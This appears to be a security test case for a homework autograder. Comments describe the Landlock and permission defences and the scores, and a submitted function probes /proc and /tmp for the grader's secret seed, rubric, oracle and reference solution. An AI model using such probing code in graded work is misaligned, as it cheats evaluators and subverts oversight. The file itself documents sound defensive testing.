# attack: reads the secret seed, rubric, oracle and reference solution from every place they could be (paths from the grader's command line and working folder, the Gradescope layout, a search of /tmp)
# defence: as autograder-student the source folder is 700 root; as a TA, Landlock leaves only Python, its packages and system folders readable, never the grader's package or checkout
# without landlock: Unix permissions alone: the source folder is 700 root, and nothing else of the grader is readable by autograder-student
# scores: Mix=0 Grad=full FrobClassifier=0 MixClassifier=0
# message: Mix(nn) returned 1000 on
def Mix(nn):
    import os
    found = 0
    bases = ["/autograder/source", "/autograder/source/autograder"]
    try:
        args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace").split("\0")
        for a in args:
            if a.startswith("/"):
                d = a if os.path.isdir(a) else os.path.dirname(a)
                bases += [d, d + "/source", d + "/source/autograder", d + "/autograder", os.path.dirname(d)]
    except OSError:
        pass
    try:
        bases.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    for root, dirs, files in os.walk("/tmp"):
        if "secret_seed" in files or "rubric.toml" in files:
            bases.append(root)
    for b in bases:
        for name in ("secret_seed", "rubric.toml", "oracle.py", "autograder/homeworks/nn2/oracle.py",
                     "autograder/homeworks/nn2/secret_seed", "autograder/homeworks/nn2/checks/check_mix.py",
                     "reference/nn2/solution.py", "../reference/nn2/solution.py"):
            try:
                open(os.path.join(b, name)).read()
                found += 1
            except OSError:
                pass
    return 1000.0 + found
